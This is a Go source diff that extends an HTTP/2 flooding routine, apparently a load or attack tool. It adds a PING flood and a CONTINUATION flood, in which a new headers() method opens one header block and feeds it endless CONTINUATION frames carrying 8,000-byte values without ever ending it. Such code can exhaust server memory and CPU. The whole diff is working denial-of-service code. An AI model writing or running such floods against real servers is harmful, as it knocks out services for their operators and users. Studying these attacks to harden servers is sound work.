@@ -47,6 +47,8 @@ var floodKinds = map[string]func(c *flooding) error{
 	"PRIORITY":      func(c *flooding) error { return c.framer.WritePriority(1, http2.PriorityParam{Weight: 1}) },
 	"WINDOW_UPDATE": func(c *flooding) error { return c.framer.WriteWindowUpdate(0, 1) },
 	"empty DATA":    func(c *flooding) error { return c.framer.WriteData(1, false, nil) },
+	"PING":          func(c *flooding) error { return c.framer.WritePing(false, [8]byte{1}) },
+	"CONTINUATION":  (*flooding).headers,
 	"silence":       nil,
 }
 
@@ -126,6 +128,16 @@ func floodOnce(ctx context.Context, o floodOrder) (n int64, err error) {
 		n++
 	}
 	return n, nil
+}
+
+// headers begins a call whose headers do not end, and goes on with them.
+func (c *flooding) headers() error {
+	c.block.Reset()
+	_ = c.encode.WriteField(hpack.HeaderField{Name: "x-" + fmt.Sprint(c.last), Value: strings.Repeat("v", 8000), Sensitive: true})
+	if c.last++; c.last == 1 {
+		return c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.block.Bytes()})
+	}
+	return c.framer.WriteContinuation(1, false, c.block.Bytes())
 }
 
 func (c *flooding) call(path string, end bool) (uint32, error) {
